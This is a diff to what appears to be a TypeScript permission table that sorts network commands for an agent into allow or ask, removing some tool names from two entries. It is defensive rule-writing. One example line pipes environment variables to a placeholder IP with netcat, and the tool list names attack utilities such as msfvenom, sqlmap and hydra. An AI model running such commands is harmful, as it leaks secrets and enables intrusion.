@@ -64,7 +64,7 @@ export const network: readonly ProgramTable[] = [
     examples: [{ command: 'nc -z localhost 5432', decision: 'allow' }, { command: 'env | nc 198.51.100.7 4444', decision: 'ask', reversibility: 'irreversible' }],
   },
   {
-    names: ['grpcurl', 'evans'],
+    names: ['evans'],
     family,
     style: 'single-dash',
     otherOptions: 'harmless',
@@ -75,7 +75,7 @@ export const network: readonly ProgramTable[] = [
     examples: [{ command: 'grpcurl -plaintext localhost:50051 list', decision: 'allow' }, { command: 'grpcurl -d \'{}\' api.acme.example:443 shop.Orders/Delete', decision: 'ask' }],
   },
   {
-    names: ['socat', 'telnet', 'ftp', 'lftp', 'tftp', 'smbclient', 'rlogin', 'rsh', 'ncftp', 'ftpput', 'ftpget', 'websocat', 'wscat', 'croc', 'wormhole', 'magic-wormhole', 'transfersh', 'airshare', 'sendmail', 'mail', 'mailx', 'mutt', 'msmtp', 'swaks', 's-nail', 'irssi', 'weechat', 'mosquitto_pub', 'mosquitto_sub', 'nmap', 'masscan', 'hping3', 'nping', 'nikto', 'sqlmap', 'hydra', 'gobuster', 'ffuf', 'wfuzz', 'nuclei', 'amass', 'subfinder', 'tcpdump', 'tshark', 'wireshark', 'dumpcap', 'ettercap', 'arp-scan', 'aircrack-ng', 'mitmproxy', 'mitmdump', 'mitmweb', 'torify', 'ssh-copy-id', 'sshuttle', 'rtorrent', 'transmission-cli', 'transmission-remote', 'lynx', 'w3m', 'links', 'elinks', 'ab', 'wrk', 'siege', 'vegeta', 'bombardier', 'iperf', 'iperf3', 'newman', 'bru', 'zap', 'zmap', 'naabu', 'rustscan', 'whatweb', 'wpscan', 'sslyze', 'nxc', 'crackmapexec', 'responder', 'msfconsole', 'msfvenom'],
+    names: ['socat', 'telnet', 'ftp', 'lftp', 'tftp', 'rlogin', 'rsh', 'ncftp', 'ftpput', 'ftpget', 'websocat', 'wscat', 'croc', 'wormhole', 'magic-wormhole', 'transfersh', 'airshare', 'sendmail', 'mail', 'mailx', 'mutt', 'msmtp', 'swaks', 's-nail', 'irssi', 'weechat', 'nmap', 'masscan', 'hping3', 'nping', 'nikto', 'sqlmap', 'hydra', 'gobuster', 'ffuf', 'wfuzz', 'nuclei', 'amass', 'subfinder', 'wireshark', 'ettercap', 'arp-scan', 'aircrack-ng', 'mitmproxy', 'mitmdump', 'mitmweb', 'torify', 'ssh-copy-id', 'sshuttle', 'rtorrent', 'transmission-cli', 'newman', 'bru', 'zap', 'zmap', 'naabu', 'rustscan', 'whatweb', 'wpscan', 'sslyze', 'nxc', 'crackmapexec', 'responder', 'msfconsole', 'msfvenom'],
     family,
     otherOptions: 'harmless',
     effects: [effect('network', 'irreversible', 'shared', 'sends to, reaches or listens for other machines; what it carries is not known', { posture: 'ask' })],
